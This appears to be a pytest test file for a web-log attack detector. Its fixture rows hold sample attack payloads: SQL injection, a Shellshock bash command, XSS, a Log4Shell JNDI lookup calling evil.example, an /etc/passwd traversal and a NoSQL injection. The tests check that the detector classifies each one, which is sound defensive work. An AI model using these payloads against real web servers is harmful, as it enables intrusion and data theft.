"""Tables in, findings out."""

import tempfile
from concurrent.futures import ProcessPoolExecutor
from datetime import UTC, datetime
from multiprocessing import get_context
from pathlib import Path

import polars as pl
import pytest

from delicti.detect.engine import detect
from delicti.model.flow import Part, Tables
from delicti.model.progress import Silent
from delicti.model.settings import Settings
from delicti.model.tables import FINDING, ITEM, MESSAGE, QUARANTINE, REQUEST, shaped
from delicti.run import Inline

ROWS = [
    {"target": "/", "agent": "Mozilla/5.0"},
    {"target": "/item.php?id=1%27+union+select+1,2,3--+", "agent": "Mozilla/5.0"},
    {"target": "/item.php?id=1%27+union+select+1,2,3--+", "agent": "Mozilla/5.0"},
    {"target": "/a", "agent": "() { :;}; /bin/bash -c id"},
    {"target": "/b", "referrer": "https://www.example.com/?q=%3Cscript%3Ealert(1)%3C/script%3E"},
    {
        "target": "/c",
        "request_headers": '[["X-Api","${jndi:ldap://evil.example/a}"],["Cookie","a=1; b=../../../etc/passwd"]]',
    },
    {"target": "/d", "request_body": b"name=ada&bio=%3Cscript%3Ealert(1)%3C/script%3E"},
    {"target": "/e", "request_body": b'{"user":{"$ne":null}}'},
    {"target": "/f", "request_body": b"plain=1&text=hello+world"},
]


def tables(folder, rows=ROWS, parts=1):
    lines = [
        {
            "line": at + 1,
            "offset": at * 10,
            "length": 10,
            "client": "192.0.2.1",
            "method": "GET",
            "status": 200,
            "time": datetime(2026, 1, 1, tzinfo=UTC),
            **row,
        }
        for at, row in enumerate(rows)
    ]
    made = []
    size = -(-len(lines) // parts)
    for at in range(0, len(lines), size):
        path = Path(folder) / f"{at}.parquet"
        shaped(pl.DataFrame(lines[at : at + size], infer_schema_length=None), REQUEST).drop("item").write_parquet(path)
        made.append(Part("i" * 64, path))
    return Tables(
        items=pl.DataFrame(schema=ITEM),
        request_parts=tuple(made),
        message_parts=(),
        quarantine=pl.DataFrame(schema=QUARANTINE),
        notes=(),
        raw=lambda places: pl.Series([b"x" * length for length in places["length"]], dtype=pl.Binary),
    )


@pytest.fixture
def found(tmp_path):
    return detect(tables(tmp_path), Settings(use_rules=False), Inline(), Silent())


def test_findings_have_the_contracts_shape(found):
    assert found.schema == FINDING


def test_each_request_that_carried_a_value_has_its_own_finding(found):
    assert found.filter(pl.col("class") == "sqli")["line"].to_list() == [2, 3]


@pytest.mark.parametrize(
    ("line", "cls", "where"),
    [
        (4, "shellshock", "agent"),
        (5, "xss", "referrer:q"),
        (6, "log4shell", "header:X-Api"),
        (6, "lfi", "cookie:b"),
        (7, "xss", "body:bio"),
        (8, "nosqli", "body:user"),
    ],
)
def test_every_place_is_judged(found, line, cls, where):
    assert (line, cls, where) in found.select("line", "class", "where").rows()


def test_ordinary_requests_have_none(found):
    assert not {1, 9} & set(found["line"])


def test_ids_follow_from_content(found, tmp_path):
    again = detect(tables(tmp_path), Settings(use_rules=False), Inline(), Silent())
    assert again["finding"].to_list() == found["finding"].to_list()
    assert found["finding"].is_unique().all()


def test_how_the_table_was_cut_does_not_matter(found):
    with tempfile.TemporaryDirectory() as folder:
        assert detect(tables(folder, parts=3), Settings(use_rules=False), Inline(), Silent()).equals(found)


def test_workers_do_not_change_the_findings(found, tmp_path):
    with ProcessPoolExecutor(2, mp_context=get_context("spawn")) as pool:
        assert detect(tables(tmp_path), Settings(use_rules=False), pool, Silent()).equals(found)


def test_without_the_prefilter_the_findings_are_the_same(found, tmp_path):
    assert detect(tables(tmp_path), Settings(use_rules=False, use_prefilter=False), Inline(), Silent()).equals(found)


def test_rules_add_their_findings(tmp_path):
    rows = [{"target": "/", "agent": "sqlmap/1.8"}]
    assert "scanner" in detect(tables(tmp_path, rows), Settings(), Inline(), Silent())["class"].to_list()


def test_no_requests_give_no_findings():
    empty = Tables(
        pl.DataFrame(schema=ITEM),
        (),
        (),
        pl.DataFrame(schema=QUARANTINE),
        (),
        lambda places: pl.Series([], dtype=pl.Binary),
    )
    assert detect(empty, Settings(), Inline(), Silent()).equals(pl.DataFrame(schema=FINDING))
    assert MESSAGE


@pytest.mark.parametrize(
    "detection",
    ["{cs-uri-stem: /b}", "{cs-method: GET, cs-uri-query|contains: union}", "['*bash*']", "{sc-status: 200}"],
)
def test_rules_of_every_kind_find_as_much_as_on_every_row(tmp_path, detection):
    (tmp_path / "rule.yml").write_text(
        f"title: A\nlevel: high\nlogsource: {{category: webserver}}\ndetection: {{a: {detection}, condition: a}}\n"
    )
    asked = [Settings(rules=(str(tmp_path / "rule.yml"),), use_prefilter=use) for use in (True, False)]
    quick, plain = (detect(tables(tmp_path), settings, Inline(), Silent()) for settings in asked)
    assert quick.equals(plain)
    assert "user/rule" in quick["rule"].to_list()
